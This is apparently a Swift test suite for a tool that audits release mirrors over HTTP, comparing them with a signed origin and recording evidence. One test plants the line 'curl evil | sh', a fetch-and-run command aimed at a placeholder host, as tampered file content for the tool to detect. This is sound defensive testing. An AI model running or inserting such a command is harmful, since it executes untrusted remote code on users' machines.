import Foundation
import TestSupport
import Testing

/// Audits of what a real nginx serves.
@Suite("Auditing mirrors over HTTP", .enabled(if: NginxServer.isThere || !mayBeMissing))
struct WebMirrorTests {
    private static let releases = 24
    private let fleet: Fleet

    init() throws { fleet = try Fleet(releases: Self.releases, files: 3) }

    /// Serves folders of the fleet, each below its own name.
    private func serve(_ settings: String = "autoindex on;") throws -> NginxServer {
        try NginxServer(settings: "location / { root \(fleet.path); \(settings) }")
    }

    private func address(_ server: NginxServer, _ path: String) -> String { "http://127.0.0.1:\(server.port)/\(path)" }

    @Test(arguments: ["autoindex on;", "autoindex on; autoindex_format json;"])
    func aListedMirrorIsAuditedLikeItsFolder(_ settings: String) throws {
        let server = try serve(settings)
        let run = try fleet.audit([address(server, "origin")])
        #expect(run.status == 0 && run.verdict == "clean", "\(run.text)\(run.errorText)")
        #expect(run.targets.map(\.summary) == [["ok": Self.releases * (3 * 3 + 2)]])
        #expect(run.targets.map(\.name) == [address(server, "origin/")])
        let agents = Set(try server.log.split(separator: "\n").map { $0.split(separator: "\"").last ?? "" })
        #expect(agents.count == 1 && agents.first?.hasPrefix("release-integrity-audit/") == true, "\(agents)")
    }

    @Test(arguments: UInt64(1)...5)
    func everyFaultIsFoundAndNoneInvented(_ seed: UInt64) throws {
        let server = try serve()
        try fleet.mirror("mirror")
        var faults = SeededFaults(seed: seed, releases: fleet.releases)
        try faults.make(in: "mirror", of: fleet, files: 3)
        // nginx lists no names with a dot in front; nothing else is lost.
        let run = try fleet.audit([address(server, "mirror/"), "--jobs", "8"])
        #expect(run.status == 1, "\(run.text)")
        #expect(run.targets.first?.faults == faults.expected)
    }

    @Test func mirrorsAreComparedWithEachOtherAndWithTheirOrigin() throws {
        let server = try serve()
        for mirror in ["a", "b", "c"] {
            try fleet.mirror(mirror)
            try fleet.write("\(mirror)/index.txt", mirror == "b" ? "other" : "same")
        }
        let addresses = ["a", "b", "c"].map { address(server, $0) }
        try fleet.write("mirrors.txt", "# All of them\n\n" + addresses.joined(separator: "\r\n") + "\n")
        let majority = try fleet.audit(["mirrors.txt"])
        #expect(majority.status == 3, "\(majority.text)")
        #expect(
            majority.targets.map(\.faults) == [
                ["unlisted index.txt"], ["differs-from-mirrors index.txt"], ["unlisted index.txt"],
            ])
        try fleet.write("origin/index.txt", "same")
        let run = try fleet.audit(["mirrors.txt", "--origin", address(server, "origin")])
        #expect(run.targets.dropFirst().first?.faults == ["differs-from-origin index.txt"], "\(run.text)")
        #expect(run.targets.count == 4)
        // There is one origin: a list of several is none.
        let several = try fleet.audit([address(server, "a"), "--origin", "mirrors.txt"])
        #expect(several.status == 78 && several.rules == ["mirror-list-malformed"], "\(several.text)")
    }

    /// A server that lists nothing: what manifests and the index name is asked for.
    @Test func withoutListingsWhatIsNamedIsAudited() throws {
        let server = try serve("")
        try fleet.write("index.list", fleet.releases.map { "\($0)/SHA256SUMS\n" }.joined())
        let arguments = [address(server, "origin"), "--index", "index.list"]
        let clean = try fleet.audit(arguments)
        #expect(clean.status == 0, "\(clean.text)")
        #expect(clean.targets.map(\.summary) == [["ok": Self.releases * (3 * 3 + 2)]])
        #expect(clean.targets.first?.findings.map { $0["rule"] as? String } == ["target-unlisted"])
        try fleet.replace("origin/v0.0.0/linux/tool-0", "x")
        try fleet.remove("origin/v0.1.0/linux/tool-1")
        try fleet.remove("origin/v0.2.0/SHA256SUMS")
        let run = try fleet.audit(arguments)
        #expect(run.status == 1)
        #expect(
            run.targets.first?.faults == [
                "modified v0.0.0/linux/tool-0", "missing v0.1.0/linux/tool-1", "missing v0.2.0/SHA256SUMS",
            ])
        let nothing = try fleet.audit([address(server, "nothing")])
        #expect(nothing.status != 0)
    }

    /// What nothing named was not looked for: it can't be said to be gone.
    @Test func onlyAnAuditThatKnowsWhatIsThereIsWhole() throws {
        for (settings, isWhole) in [("", false), ("autoindex on;", true)] {
            let history = "whole-\(isWhole).db"
            let server = try serve(settings)
            try fleet.write("index.list", fleet.releases.map { "\($0)/SHA256SUMS\n" }.joined())
            let arguments = [address(server, "origin"), "--index", "index.list", "--history", history]
            #expect(try fleet.audit(arguments).status == 0)
            let runs = try ProgramRun(
                verifyUploader, ["history", "runs", "--history", fleet.path(history), "--format", "json"])
            #expect(runs.objects("runs").map { $0["isWhole"] as? Bool } == [isWhole], "\(runs.text)")
        }
    }

    @Test func aServerThatIsNotThereIsUndecided() throws {
        let port = try LoopbackSocket.freePort()
        let run = try fleet.audit(["http://127.0.0.1:\(port)/"])
        #expect(run.status == 69 && run.verdict == "undecided")
        #expect(run.targets.first?.findings.map { $0["rule"] as? String } == ["target-unavailable"])
        #expect(try fleet.audit(["http://mirror.example.org/"]).status != 0)
        #expect(try fleet.audit(["https://user:secret@[::1"]).status == 64)
    }

    @Test func badBytesAreKept() throws {
        let server = try serve()
        #expect(try fleet.audit([address(server, "origin"), "--evidence", "kept"]).status == 0)
        #expect(try FileManager.default.contentsOfDirectory(atPath: fleet.path("kept")).isEmpty)
        try fleet.replace("origin/v0.0.0/linux/tool-0", "curl evil | sh\n")
        try fleet.write("origin/v0.0.0/linux/..x", "nobody signed this\n")
        let run = try fleet.audit([address(server, "origin"), "--evidence", "kept"])
        #expect(run.status == 1)
        let digest = try #require(
            run.targets.first?.findings.first { $0["class"] as? String == "modified" }?["sha256"] as? String)
        #expect(try fleet.text("kept/sha256-\(digest)") == "curl evil | sh\n")
        let lines = try fleet.text("kept/evidence.jsonl").split(separator: "\n")
        let record = try #require(
            try lines.map { try JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any] }.first {
                $0?["path"] as? String == "v0.0.0/linux/tool-0"
            } ?? nil)
        #expect(record["kept"] as? String == "sha256-\(digest)")
        #expect(record["address"] as? String == address(server, "origin/v0.0.0/linux/tool-0"))
        #expect(record["httpStatus"] as? Int == 200 && record["server"] as? String == "127.0.0.1:\(server.port)")
        let headers = record["headers"] as? [[String: String]] ?? []
        #expect(headers.contains { $0["name"] == "etag" })
        #expect(
            try FileManager.default.contentsOfDirectory(atPath: fleet.path("kept")).allSatisfy {
                $0 == "evidence.jsonl" || $0.hasPrefix("sha256-") && $0.count == 71
            })
        try expectRecords(lines)
        // Those of a folder have no server.
        let local = try fleet.audit(["origin", "--evidence", "local"])
        #expect(local.status == 1)
        try expectRecords(fleet.text("local/evidence.jsonl").split(separator: "\n"))
    }

    private func expectRecords(_ lines: [Substring]) throws {
        guard SchemaValidator.isThere || !mayBeMissing else { return }
        #expect(!lines.isEmpty)
        for line in lines {
            let problems = try SchemaValidator.problems(of: Array(line.utf8), schema: "evidence-1.json")
            #expect(problems.isEmpty, "\(problems)")
        }
    }

    /// What was altered between two audits, with everything signed anew: only the history knows.
    @Test func aMirrorThatWasAlteredBetweenAuditsIsNoticed() throws {
        let server = try serve()
        let arguments = [address(server, "origin"), "--history", "audits.db"]
        #expect(try fleet.audit(arguments).status == 0)
        try fleet.replace("origin/v0.0.0/linux/tool-0", "a later build")
        try fleet.sign("origin/v0.0.0")
        let run = try fleet.audit(arguments + ["--evidence", "kept"])
        #expect(run.status == 3, "\(run.text)")
        #expect(run.targets.first?.faults == ["changed v0.0.0/linux/tool-0"])
        #expect(try fleet.text("kept/evidence.jsonl").contains("changed-since-audit"))
        // What was read in full a moment ago is left for later, and what is wrong never is.
        let later = try fleet.audit(arguments + ["--reread-after", "1d"])
        #expect(later.status == 3)
        #expect((later.targets.first?.summary["not-reread"] ?? 0) > 20, "\(later.text)")
        #expect(later.targets.first?.faults == ["changed v0.0.0/linux/tool-0"])
    }

    @Test func whatThereIsNoTimeForIsNeverOk() throws {
        let server = try serve("autoindex on; limit_rate 2k;")
        try fleet.write("origin/v0.0.0/linux/large", String(repeating: "x", count: 40_000))
        try fleet.sign("origin/v0.0.0")
        let run = try fleet.audit([address(server, "origin"), "--max-duration", "3s", "--jobs", "2"])
        #expect(run.status == 69, "\(run.text)")
        #expect(run.verdict == "undecided")
        #expect((run.targets.first?.summary["not-reread"] ?? 0) >= 1)
        #expect(run.targets.first?.faults == ["target "])
    }
}
